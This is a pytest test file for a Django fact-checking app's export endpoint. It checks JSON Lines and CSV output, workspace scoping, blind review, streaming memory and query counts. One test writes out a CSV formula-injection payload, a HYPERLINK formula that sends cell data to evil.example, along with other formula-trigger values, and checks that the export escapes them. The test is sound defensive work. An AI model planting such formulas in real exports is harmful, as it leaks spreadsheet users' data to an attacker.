"""GET /api/v1/export/: JSON lines and CSV, scoped, blind review kept, streamed with flat
memory and a number of queries that grows with pages, not rows."""

from __future__ import annotations

import csv
import io
import json
import time
import tracemalloc
from collections.abc import Callable
from typing import Any

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import include, path, reverse
from drf_spectacular.generators import SchemaGenerator
from drf_spectacular.validation import validate_schema

from annotations.articles.models import Article
from annotations.interop.api import export as export_api
from annotations.interop.export import CSV_COLUMNS, article_records
from annotations.review.models import Rating
from annotations.workspaces.models import Role, Workspace
from tests.factories import (
    ArticleFactory,
    ClaimFactory,
    MembershipFactory,
    SpanFactory,
    UserFactory,
    VerdictFactory,
)
from tests.helpers import error_fields, error_messages

urlpatterns = [path("api/v1/", include("annotations.urls"))]


@pytest.fixture(autouse=True)
def export_urls(settings: Any) -> None:
    settings.ROOT_URLCONF = "tests.interop.test_export"


def export(client: Any, **params: str) -> Any:
    response = client.get(reverse("export"), params)
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    assert isinstance(response, StreamingHttpResponse)
    return response


def body_of(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


def lines_of(response: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body_of(response).splitlines()]


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body_of(response))))


@pytest.fixture
def annotated(
    workspace: Workspace, annotator: Any, reviewer: Any, member: Callable[..., Any]
) -> dict[str, Any]:
    """An article with two spans, a claim citing both (and a span in a second article), a
    claim without verdicts, a published verdict and another reviewer's submitted one."""
    article = ArticleFactory(workspace=workspace, created_by=annotator, byline="A. Writer")
    second = ArticleFactory(workspace=workspace, created_by=annotator)
    first_span = SpanFactory(article=article, start=0, end=12, note="who")
    other_span = SpanFactory(article=article, start=18, end=30)
    elsewhere = SpanFactory(article=second, start=0, end=3)
    claim = ClaimFactory(
        workspace=workspace,
        created_by=annotator,
        spans=[first_span, other_span, elsewhere],
        claim_date="2026-05-01",
    )
    bare_claim = ClaimFactory(workspace=workspace, created_by=annotator, spans=[other_span])
    published = VerdictFactory(
        claim=claim,
        reviewer=member(Role.REVIEWER, username="pete"),
        published=True,
        sources=[
            {"url": "https://stats.example/may", "title": "May"},
            {"url": "https://stats.example/june", "title": "June"},
        ],
    )
    hidden = VerdictFactory(
        claim=claim,
        reviewer=member(Role.REVIEWER, username="sam"),
        submitted=True,
        rating=Rating.objects.get(slug="true"),
    )
    return {
        "article": article,
        "second": second,
        "spans": [first_span, other_span, elsewhere],
        "claim": claim,
        "bare_claim": bare_claim,
        "published": published,
        "hidden": hidden,
    }


def test_jsonl_has_each_article_with_spans_claims_and_verdicts(
    client_for: Callable[[Any], Any], editor: Any, annotated: dict[str, Any]
) -> None:
    response = export(client_for(editor), format="jsonl")
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert "attachment" in response["Content-Disposition"]
    lines = lines_of(response)
    by_id = {line["id"]: line for line in lines}
    article = annotated["article"]
    line = by_id[str(article.pk)]
    assert set(line) == {
        "id",
        "workspace",
        "url",
        "title",
        "publisher",
        "byline",
        "published_at",
        "language",
        "body",
        "revision",
        "created_at",
        "updated_at",
        "spans",
        "claims",
    }
    assert line["workspace"] == "desk"
    assert line["byline"] == "A. Writer"
    assert line["body"] == article.body
    assert line["created_at"].endswith("Z")
    first_span, other_span, _elsewhere = annotated["spans"]
    assert [span["id"] for span in line["spans"]] == [str(first_span.pk), str(other_span.pk)]
    assert line["spans"][0] == {
        "id": str(first_span.pk),
        "start": 0,
        "end": 12,
        "quote": first_span.quote,
        "prefix": "",
        "suffix": first_span.suffix,
        "note": "who",
        "revision": 1,
        "anchor_state": "anchored",
    }
    claims = {claim["id"]: claim for claim in line["claims"]}
    assert set(claims) == {str(annotated["claim"].pk), str(annotated["bare_claim"].pk)}
    claim = claims[str(annotated["claim"].pk)]
    assert claim["claim_date"] == "2026-05-01"
    assert claim["claimant"] == "The minister"
    assert sorted(claim["spans"]) == sorted(str(s.pk) for s in annotated["spans"])
    # The editor sees every verdict.
    assert {v["id"] for v in claim["verdicts"]} == {
        str(annotated["published"].pk),
        str(annotated["hidden"].pk),
    }
    published = next(v for v in claim["verdicts"] if v["id"] == str(annotated["published"].pk))
    assert published["reviewer"] == "pete"
    assert published["rating"] == "false"
    assert published["state"] == "published"
    assert published["sources"][1]["url"] == "https://stats.example/june"
    assert published["published_at"] is not None
    assert claims[str(annotated["bare_claim"].pk)]["verdicts"] == []
    # The claim appears with the second article too, the bare claim does not.
    second = by_id[str(annotated["second"].pk)]
    assert [c["id"] for c in second["claims"]] == [str(annotated["claim"].pk)]


def test_jsonl_is_the_default_format(
    client_for: Callable[[Any], Any], editor: Any, annotated: dict[str, Any]
) -> None:
    response = export(client_for(editor))
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert len(lines_of(response)) == 2


def test_blind_review_is_kept(
    client_for: Callable[[Any], Any], reviewer: Any, annotated: dict[str, Any]
) -> None:
    # rita has not judged the claim: sam's submitted verdict is hidden from her.
    lines = lines_of(export(client_for(reviewer), format="jsonl"))
    claim = next(
        c for line in lines for c in line["claims"] if c["id"] == str(annotated["claim"].pk)
    )
    assert [v["id"] for v in claim["verdicts"]] == [str(annotated["published"].pk)]
    rows = rows_of(export(client_for(reviewer), format="csv"))
    assert str(annotated["hidden"].pk) not in {row["verdict_id"] for row in rows}


def test_other_workspaces_never_appear(
    client_for: Callable[[Any], Any],
    editor: Any,
    outsider: Any,
    annotated: dict[str, Any],
    other_workspace: Workspace,
) -> None:
    theirs = ArticleFactory(workspace=other_workspace, created_by=outsider)
    ClaimFactory(
        workspace=other_workspace, created_by=outsider, spans=[SpanFactory(article=theirs)]
    )
    mine = {line["id"] for line in lines_of(export(client_for(editor), format="jsonl"))}
    assert str(theirs.pk) not in mine
    assert mine == {str(annotated["article"].pk), str(annotated["second"].pk)}
    assert {row["workspace"] for row in rows_of(export(client_for(editor), format="csv"))} == {
        "desk"
    }
    outside = lines_of(export(client_for(outsider), format="jsonl"))
    assert [line["id"] for line in outside] == [str(theirs.pk)]
    assert outside[0]["claims"][0]["verdicts"] == []


def test_workspace_filter(
    client_for: Callable[[Any], Any],
    editor: Any,
    member: Callable[..., Any],
    annotated: dict[str, Any],
    other_workspace: Workspace,
) -> None:
    both = member(Role.EDITOR, username="both")
    member_of_other = UserFactory(username="x")
    ArticleFactory(workspace=other_workspace, created_by=member_of_other)
    MembershipFactory(user=both, workspace=other_workspace, role=Role.EDITOR)
    client = client_for(both)
    assert len(lines_of(export(client, format="jsonl"))) == 3
    assert {line["workspace"] for line in lines_of(export(client, workspace="elsewhere"))} == {
        "elsewhere"
    }
    assert {
        row["workspace"] for row in rows_of(export(client, format="csv", workspace="desk"))
    } == {"desk"}
    # A workspace you are not in is as unknown as one that does not exist: a 400 naming the
    # parameter, before anything is streamed.
    for slug in ("elsewhere", "nowhere"):
        refused = client_for(editor).get(reverse("export"), {"workspace": slug})
        assert refused.status_code == 400
        assert error_fields(refused) == {"workspace"}


def test_csv_has_a_row_per_verdict(
    client_for: Callable[[Any], Any], editor: Any, annotated: dict[str, Any]
) -> None:
    response = export(client_for(editor), format="csv")
    assert response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert ".csv" in disposition
    text = body_of(response)
    assert next(csv.reader(io.StringIO(text))) == CSV_COLUMNS
    rows = list(csv.DictReader(io.StringIO(text)))
    claim = annotated["claim"]
    claim_rows = [row for row in rows if row["claim_id"] == str(claim.pk)]
    assert len(claim_rows) == 2
    published = next(r for r in claim_rows if r["verdict_id"] == str(annotated["published"].pk))
    assert published == {
        "claim_id": str(claim.pk),
        "workspace": "desk",
        "claim_text": claim.text,
        "claimant": "The minister",
        "claim_date": "2026-05-01",
        "article_ids": " ".join(
            sorted([str(annotated["article"].pk), str(annotated["second"].pk)])
        ),
        "verdict_id": str(annotated["published"].pk),
        "reviewer": "pete",
        "rating": "false",
        "state": "published",
        "submitted_at": published["submitted_at"],
        "published_at": published["published_at"],
        "explanation": "Official statistics show 4.1%.",
        "source_urls": "https://stats.example/may https://stats.example/june",
    }
    assert published["submitted_at"].endswith("Z")
    assert published["published_at"].endswith("Z")
    bare = [row for row in rows if row["claim_id"] == str(annotated["bare_claim"].pk)]
    assert len(bare) == 1
    assert bare[0]["article_ids"] == str(annotated["article"].pk)
    assert all(bare[0][column] == "" for column in CSV_COLUMNS[6:])


def test_csv_quotes_awkward_text(
    client_for: Callable[[Any], Any], editor: Any, workspace: Workspace
) -> None:
    text = 'He said "no", twice,\nthen: ünïcødé'
    ClaimFactory(workspace=workspace, created_by=editor, text=text)
    rows = rows_of(export(client_for(editor), format="csv"))
    assert [row["claim_text"] for row in rows] == [text]
    assert rows[0]["article_ids"] == ""


def test_anonymous_gets_401_problem(anonymous: Any, db: None) -> None:
    for params in ({"format": "jsonl"}, {"format": "csv"}, {}):
        response = anonymous.get(reverse("export"), params)
        assert response.status_code == 401
        assert response["Content-Type"] == "application/problem+json"
        assert response.json()["type"] == "urn:factcheck:problem:not-authenticated"
        assert "WWW-Authenticate" in response


def test_unknown_format_is_a_400_naming_it(client_for: Callable[[Any], Any], editor: Any) -> None:
    response = client_for(editor).get(reverse("export"), {"format": "xml"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert error_fields(response) == {"format"}
    assert "'xml'" in error_messages(response, "format")[0]


def test_in_schema(db: None) -> None:
    generator = SchemaGenerator(patterns=[path("api/v1/", include("annotations.urls"))])
    schema = generator.get_schema(request=None, public=True)
    validate_schema(schema)
    operation = schema["paths"]["/api/v1/export/"]["get"]
    assert operation["summary"]
    assert set(operation["responses"]["200"]["content"]) == {"application/x-ndjson", "text/csv"}
    parameters = {parameter["name"]: parameter for parameter in operation["parameters"]}
    assert sorted(parameters["format"]["schema"]["enum"]) == ["csv", "jsonl"]
    assert "workspace" in parameters
    responses = operation["responses"]
    assert {"400", "401", "429"} <= set(responses)
    for code, response in responses.items():
        assert all("examples" in media for media in response["content"].values()), code
        if code[0] in "45":
            assert set(response["content"]) == {"application/problem+json"}
            problem_schema = response["content"]["application/problem+json"]["schema"]
            assert problem_schema == {"$ref": "#/components/schemas/Problem"}
    examples = responses["400"]["content"]["application/problem+json"]["examples"]
    assert "Unknown export format" in json.dumps(examples)


# Streaming: a large database.


def bulk_articles(workspace: Workspace, user: Any, count: int, start: int = 0) -> None:
    Article.objects.bulk_create(
        [
            Article(
                workspace=workspace,
                created_by=user,
                title=f"Bulk {index}",
                url=f"https://bulk.example/{index}",
                body=f"Article number {index} says little.",
            )
            for index in range(start, start + count)
        ],
        batch_size=1000,
    )


def consume(response: Any) -> tuple[int, int]:
    """Read the stream chunk by chunk, keeping nothing: (lines, bytes)."""
    lines = size = 0
    for chunk in response.streaming_content:
        lines += chunk.count(b"\n")
        size += len(chunk)
    return lines, size


def streamed_peak(client: Any, params: dict[str, str]) -> tuple[int, int, int]:
    """Peak memory (bytes) allocated while making and reading the export; lines and bytes."""
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        baseline = tracemalloc.get_traced_memory()[0]
        response = client.get(reverse("export"), params)
        assert response.status_code == 200
        lines, size = consume(response)
        peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()
    return peak, lines, size


def test_memory_stays_flat(
    client_for: Callable[[Any], Any],
    editor: Any,
    annotated: dict[str, Any],
    workspace: Workspace,
) -> None:
    client = client_for(editor)
    bulk_articles(workspace, editor, 998)
    started = time.monotonic()
    small, small_lines, _ = streamed_peak(client, {"format": "jsonl"})
    assert small_lines == 1_000
    bulk_articles(workspace, editor, 9_000, start=998)
    large, large_lines, large_size = streamed_peak(client, {"format": "jsonl"})
    assert large_lines == 10_000
    elapsed = time.monotonic() - started
    print(
        f"\nexport memory peak: 1,000 articles {small / 1e6:.2f} MB; 10,000 articles "
        f"{large / 1e6:.2f} MB for {large_size / 1e6:.2f} MB streamed; {elapsed:.1f} s"
    )
    assert large < 2 * small
    assert large < large_size  # Less than even the text of the export, let alone its rows.


def test_queries_grow_with_pages_not_rows(
    client_for: Callable[[Any], Any],
    editor: Any,
    annotated: dict[str, Any],
    workspace: Workspace,
    django_assert_max_num_queries: Any,
) -> None:
    client = client_for(editor)
    bulk_articles(workspace, editor, 1_998)
    for _ in range(40):
        article = ArticleFactory(workspace=workspace, created_by=editor)
        span = SpanFactory(article=article)
        claim = ClaimFactory(workspace=workspace, created_by=editor, spans=[span])
        VerdictFactory(claim=claim, published=True)
    # Token, savepoint and release; then 4 pages (+1 empty) of 2,040 articles at 5 queries
    # (the articles, their spans, the claims citing them, those claims' spans, the verdicts).
    with django_assert_max_num_queries(3 + 5 * 5 + 1):
        lines, _ = consume(export(client, format="jsonl"))
    assert lines == 2_040
    # Claims: 3 queries a page.
    with django_assert_max_num_queries(3 + 3 + 1):
        lines, _ = consume(export(client, format="csv"))
    assert lines == 1 + 2 + 1 + 40


def test_pages_do_not_skip_or_repeat_articles_created_in_the_same_instant(
    editor: Any, workspace: Workspace
) -> None:
    bulk_articles(workspace, editor, 25)
    Article.objects.update(created_at=Article.objects.first().created_at)  # type: ignore[union-attr]
    with CaptureQueriesContext(connection) as captured:
        ids = [record["id"] for record in article_records(editor, page_size=4)]
    assert len(ids) == len(set(ids)) == 25
    # The editor's roles, then 7 pages, the last one short: no extra empty query. Each page
    # reads its articles, their spans and the claims citing them (none: so no claims' spans
    # and no verdicts to read).
    assert len(captured) == 1 + 3 * 7


@pytest.mark.parametrize("export_format", ["jsonl", "csv"])
def test_a_nul_in_a_parameter_is_refused_before_streaming(
    client_for: Callable[[Any], Any], editor: Any, annotated: dict[str, Any], export_format: str
) -> None:
    # PostgreSQL cannot compare text with a NUL: the export failed mid-stream.
    response = client_for(editor).get(
        reverse("export"), {"format": export_format, "workspace": "\x00"}
    )
    assert response.status_code == 400
    assert not isinstance(response, StreamingHttpResponse)
    assert error_fields(response) == {"workspace"}


def test_csv_cells_cannot_run_as_formulas(
    client_for: Callable[[Any], Any], editor: Any, workspace: Workspace, annotator: Any
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    span = SpanFactory(article=ArticleFactory(workspace=workspace, created_by=annotator))
    claim = ClaimFactory(
        workspace=workspace, created_by=annotator, text=formula, claimant="+1", spans=[span]
    )
    VerdictFactory(claim=claim, explanation="-2+3", sources=[{"url": "https://s.example/@x"}])
    for text in ["@SUM(A1)", "\tTAB", "\rCR", "plain - text = fine"]:
        ClaimFactory(workspace=workspace, created_by=annotator, text=text)
    client = client_for(editor)
    rows = rows_of(export(client, format="csv"))
    by_text = {row["claim_text"]: row for row in rows}
    assert set(by_text) == {
        "'" + formula,
        "'@SUM(A1)",
        "'\tTAB",
        "'\rCR",
        "plain - text = fine",
    }
    checked = by_text["'" + formula]
    assert (checked["claimant"], checked["explanation"]) == ("'+1", "'-2+3")
    # The JSON Lines export is the data as stored.
    [line] = lines_of(export(client, format="jsonl"))
    assert [(c["text"], c["claimant"]) for c in line["claims"]] == [(formula, "+1")]


def test_an_error_after_streaming_has_begun_is_logged(
    client_for: Callable[[Any], Any],
    editor: Any,
    annotated: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    def failing_records(*args: Any, **kwargs: Any) -> Any:
        yield from article_records(*args, **kwargs)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(export_api, "article_records", failing_records)
    response = export(client_for(editor), format="jsonl")
    with pytest.raises(RuntimeError):
        body_of(response)
    [logged] = [record for record in caplog.records if record.levelname == "ERROR"]
    assert "streaming had begun" in logged.getMessage()
    assert logged.request_id == response["X-Request-ID"]  # type: ignore[attr-defined]
